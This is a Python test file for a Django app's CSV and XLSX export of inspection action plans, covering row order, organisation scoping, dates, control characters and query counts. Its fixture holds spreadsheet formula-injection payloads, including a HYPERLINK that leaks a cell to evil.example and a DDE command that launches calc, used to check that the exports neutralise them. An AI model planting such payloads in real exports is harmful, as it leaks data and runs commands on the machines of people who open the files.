"""`/plans/export.csv` and `/plans/export.xlsx`: the list's rows, safe cells, real dates, query counts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from tests.factories import (
    ActionPlanFactory,
    FindingFactory,
    InspectionFactory,
    InspectorFactory,
    ManagerFactory,
    OrganisationFactory,
    StaffFactory,
)
from tests.tracker.plan_world import EVERYONE, SURREY, build_world
from tracker.models import ActionPlan
from tracker.reports import EXPORT_HEADER

pytestmark = pytest.mark.django_db
S = ActionPlan.Status
COLUMN = {title: i for i, title in enumerate(EXPORT_HEADER)}


@pytest.fixture
def world(org, other_org, staff, manager, other_staff):
    return build_world(org=org, other_org=other_org, staff=staff, manager=manager, other_staff=other_staff)


def content_of(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(client, query: str = "") -> list[list[str]]:
    response = client.get("/plans/export.csv?" + query)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="action-plans-')
    text = content_of(response).decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0] == EXPORT_HEADER
    return rows[1:]


def xlsx_sheet(client, query: str = ""):
    response = client.get("/plans/export.xlsx?" + query)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="action-plans-')
    workbook = openpyxl.load_workbook(io.BytesIO(content_of(response)))
    sheet = workbook["Action plans"]
    header = [cell.value for cell in sheet[1]]
    assert header == EXPORT_HEADER
    assert all(cell.font.b for cell in sheet[1])
    return sheet


def ids_in(link_cells) -> list[int]:
    return [int(re.search(r"/plans/(\d+)/$", link).group(1)) for link in link_cells]


def list_ids(client, query: str) -> list[int]:
    """Every id /plans/?query lists, page after page, in order."""
    ids: list[int] = []
    page = 1
    while True:
        response = client.get(f"/plans/?{query}&page={page}")
        ids += [plan.pk for plan in response.context["object_list"]]
        if not response.context["page_obj"].has_next():
            return ids
        page += 1


QUERIES = [
    "",
    "organisation=surrey",
    "status=in_progress&status=blocked",
    "rag=amber",
    "overdue=1",
    "theme=workforce&kind=area_for_improvement",
    "inspection=soc&q=profiles",
    "owner=unassigned&sort=-updated",
    "region=south-east&sort=organisation",
    "sort=status",
    "sort=-target_date",
    "sort=-deferrals",
    "q=nothing+matches+this",
]


@pytest.mark.parametrize("who", ["inspector", "manager"])
def test_exports_have_exactly_the_lists_rows_in_the_lists_order(client, request, world, who):
    client.force_login(request.getfixturevalue(who))
    for query in QUERIES:
        expected = list_ids(client, query)
        assert ids_in(row[COLUMN["Link"]] for row in csv_rows(client, query)) == expected, query
        sheet = xlsx_sheet(client, query)
        links = [row[COLUMN["Link"]] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert ids_in(links) == expected, query


def test_exports_follow_the_list_over_several_pages(client, org, manager):
    ActionPlanFactory.create_batch(40, organisation=org, target_date=dt.date(2030, 1, 1))
    client.force_login(manager)
    expected = list_ids(client, "sort=status")
    assert len(expected) == 40
    assert ids_in(row[COLUMN["Link"]] for row in csv_rows(client, "sort=status")) == expected


@pytest.mark.parametrize("who", ["staff", "manager"])
def test_another_organisations_plans_never_reach_an_export(client, request, world, who):
    client.force_login(request.getfixturevalue(who))
    surrey_ids = world.ids(SURREY)
    for query in ["", "organisation=hampshire", "q=partners", "status=submitted", "rag=grey"]:
        rows = csv_rows(client, query)
        assert set(ids_in(row[COLUMN["Link"]] for row in rows)) <= surrey_ids, query
        assert len(rows) == client.get("/plans/?" + query).context["paginator"].count, query
        assert not [row for row in rows if row[COLUMN["Organisation"]] != "Surrey Police"], query
    assert csv_rows(client, "organisation=hampshire") == []
    assert list(xlsx_sheet(client, "organisation=hampshire").iter_rows(min_row=2)) == []


def test_an_inspector_exports_every_organisation(client, world, inspector):
    client.force_login(inspector)
    assert set(ids_in(row[COLUMN["Link"]] for row in csv_rows(client))) == world.ids(EVERYONE)


def test_an_invalid_filter_exports_the_header_alone_as_the_list_shows_nothing(client, world, inspector):
    client.force_login(inspector)
    assert client.get("/plans/?status=bogus").context["paginator"].count == 0
    assert csv_rows(client, "status=bogus") == []
    assert list(xlsx_sheet(client, "status=bogus").iter_rows(min_row=2)) == []


def test_anonymous_users_are_sent_to_log_in(client, world):
    for path in ("/plans/export.csv", "/plans/export.xlsx"):
        response = client.get(path)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


# --- cell contents ------------------------------------------------------------------------------

DANGEROUS = {
    "Inspection": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "Finding": "+cmd|' /C calc'!A0",
    "Organisation": "-2+3 Constabulary",
    "Owner": "@owner",
    "Response": "=1+1",
    "Reference": "\tR9",
}


@pytest.fixture
def dangerous_plan(db):
    organisation = OrganisationFactory(name=DANGEROUS["Organisation"], slug="minus")
    inspection = InspectionFactory(title=DANGEROUS["Inspection"])
    finding = FindingFactory(inspection=inspection, text=DANGEROUS["Finding"], reference=DANGEROUS["Reference"])
    owner = StaffFactory(username=DANGEROUS["Owner"], organisation=organisation)
    return ActionPlanFactory(
        organisation=organisation,
        finding=finding,
        owner=owner,
        summary=DANGEROUS["Response"],
        target_date=dt.date(2026, 3, 31),
        original_target_date=dt.date(2025, 12, 31),
        percent_complete=40,
        deferral_count=1,
    )


def test_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(client, dangerous_plan, inspector):
    client.force_login(inspector)
    (row,) = csv_rows(client)
    for column, value in DANGEROUS.items():
        assert row[COLUMN[column]] == "'" + value, column
    assert row[COLUMN["Status"]] == "In progress"  # ordinary text is left alone
    assert row[COLUMN["Percent complete"]] == "40"


def test_xlsx_writes_text_as_text_exactly_as_it_is(client, dangerous_plan, inspector):
    """Text cells are inline strings, which a spreadsheet never runs, so they need no leading
    apostrophe (the CSV does: a CSV cell has no type)."""
    client.force_login(inspector)
    sheet = xlsx_sheet(client)
    cells = list(sheet.iter_rows(min_row=2))
    assert len(cells) == 1
    row = cells[0]
    for column, value in DANGEROUS.items():
        cell = row[COLUMN[column]]
        assert cell.value == value, column
        assert cell.data_type == "s", column
    raw = content_of(client.get("/plans/export.xlsx"))
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    assert 't="inlineStr"' in sheet_xml


def test_xlsx_dates_are_date_cells_and_numbers_are_numbers(client, dangerous_plan, inspector):
    undated = ActionPlanFactory(target_date=None, original_target_date=None)
    client.force_login(inspector)
    rows = {ids_in([r[COLUMN["Link"]].value])[0]: r for r in xlsx_sheet(client).iter_rows(min_row=2)}
    row = rows[dangerous_plan.pk]
    target, original = row[COLUMN["Target date"]], row[COLUMN["Original target date"]]
    assert target.is_date and target.number_format == "yyyy-mm-dd"
    assert target.value.date() == dt.date(2026, 3, 31)
    assert original.is_date and original.value.date() == dt.date(2025, 12, 31)
    updated = row[COLUMN["Last update"]]
    assert updated.is_date and updated.number_format == "yyyy-mm-dd hh:mm"
    assert row[COLUMN["Percent complete"]].value == 40 and row[COLUMN["Percent complete"]].data_type == "n"
    assert row[COLUMN["Deferrals"]].value == 1
    assert rows[undated.pk][COLUMN["Target date"]].value is None


def test_csv_dates_are_iso_dates(client, dangerous_plan, inspector):
    client.force_login(inspector)
    (row,) = csv_rows(client)
    assert row[COLUMN["Target date"]] == "2026-03-31"
    assert row[COLUMN["Original target date"]] == "2025-12-31"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row[COLUMN["Last update"]])


def test_csv_keeps_commas_quotes_and_line_breaks_inside_a_cell(client, org, manager):
    ActionPlanFactory(organisation=org, summary='Line one, with "quotes"\nline two')
    client.force_login(manager)
    (row,) = csv_rows(client)
    assert row[COLUMN["Response"]] == 'Line one, with "quotes"\nline two'


def test_control_characters_pasted_into_a_response_do_not_break_either_export(client, org, manager):
    ActionPlanFactory(organisation=org, summary="Copied from the RMS\x0b with a vertical tab\x1b")
    client.force_login(manager)
    (row,) = csv_rows(client)
    assert row[COLUMN["Response"]] == "Copied from the RMS\x0b with a vertical tab\x1b"
    (cells,) = xlsx_sheet(client).iter_rows(min_row=2, values_only=True)
    assert cells[COLUMN["Response"]] == "Copied from the RMS with a vertical tab"


# --- query counts --------------------------------------------------------------------------------


@pytest.mark.parametrize("n", [3, 30])
@pytest.mark.parametrize("path", ["/plans/export.csv", "/plans/export.xlsx"])
def test_export_queries_do_not_grow_with_rows(client, django_assert_num_queries, org, path, n):
    for _ in range(n):
        ActionPlanFactory(organisation=OrganisationFactory())
    ActionPlanFactory.create_batch(n, organisation=org)
    query = "?status=in_progress&inspection=" + ActionPlan.objects.first().finding.inspection.slug

    client.force_login(InspectorFactory())
    client.get("/accounts/")  # the first request after signing in also refreshes the session
    # session, user, the inspection chosen (checked), every link between findings, what the blocked plans
    # wait on, the rows (one query, read in chunks); XLSX counts the rows first (a worker makes big ones:
    # docs/JOBS.md) and reads the plans' milestones for its Milestones sheet and their success measures for
    # its Success measures sheet (one query each, read in chunks)
    counted = 3 if path.endswith(".xlsx") else 0
    with django_assert_num_queries(6 + counted):
        content_of(client.get(path + query))
    with django_assert_num_queries(5 + counted):  # no filter value to check
        rows = content_of(client.get(path))
    assert rows

    client.force_login(ManagerFactory(organisation=org))
    client.get("/accounts/")
    # session, user, colleagues (owner choices), links, what blocked plans wait on, the rows
    with django_assert_num_queries(6 + counted):
        content_of(client.get(path + "?status=in_progress&owner=unassigned&sort=-updated"))
